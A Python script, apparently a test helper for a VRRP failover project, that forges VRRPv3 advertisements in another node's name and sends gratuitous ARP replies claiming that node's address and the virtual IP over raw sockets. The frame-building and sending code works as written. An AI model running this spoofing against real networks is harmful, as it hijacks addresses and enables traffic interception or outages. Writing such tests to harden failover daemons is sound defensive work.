"""A stranger that forges what anybody on the LAN can send: VRRP adverts in a node's name, and ARP claims for its address and the VIP.

One JSON argument: ``{"count", "per_second", "mac", "source", "vip", "vrid", "priority", "interval_cs"}``: ``count`` of each kind are sent
on eth0, from ``mac``; ``source`` is the address in whose name. Says ``{"event": "sent", "frames"}`` at the end. Its frames are made here,
by no code of the daemons.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import time
from typing import Any

MOST = 10_000
GROUP = "224.0.0.18"


def checksum(data: bytes) -> int:
    """RFC 1071."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(plan: dict[str, Any]) -> bytes:
    """A whole frame with a VRRPv3 advert (RFC 5798 section 5) in the node's name."""
    source, target, vip = (socket.inet_aton(address) for address in (plan["source"], GROUP, plan["vip"]))
    head = struct.pack("!BBBBH", 0x31, plan["vrid"], plan["priority"], 1, plan["interval_cs"])
    pseudo = source + target + struct.pack("!BBH", 0, 112, len(head) + 2 + len(vip))
    payload = head + struct.pack("!H", checksum(pseudo + head + b"\0\0" + vip)) + vip
    packet = struct.pack("!BBHHHBBH", 0x45, 0xC0, 20 + len(payload), 1, 0, 255, 112, 0) + source + target
    packet = packet[:10] + struct.pack("!H", checksum(packet)) + packet[12:]
    return bytes.fromhex("01005e000012") + hardware(plan["mac"]) + b"\x08\x00" + packet + payload


def claim(plan: dict[str, Any], address: str) -> bytes:
    """A whole frame with an unsolicited ARP reply to everybody: the address is at our MAC."""
    mac, about = hardware(plan["mac"]), socket.inet_aton(address)
    head = b"\xff" * 6 + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, 2)
    return head + mac + about + b"\xff" * 6 + about


def hardware(mac: str) -> bytes:
    """A MAC's six bytes."""
    return bytes.fromhex(mac.replace(":", ""))


def main() -> int:
    """Send, evenly, then say so."""
    plan = json.loads(sys.argv[1])
    count = min(int(plan["count"]), MOST)
    frames = (advert(plan), claim(plan, plan["source"]), claim(plan, plan["vip"]))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as sock:
        sock.bind(("eth0", 0))
        begin = time.monotonic()
        for number in range(count):
            time.sleep(max(0.0, begin + number / plan["per_second"] - time.monotonic()))
            for frame in frames:
                sock.send(frame)
    sys.stdout.write(json.dumps({"event": "sent", "frames": count * len(frames)}) + "\n")
    sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
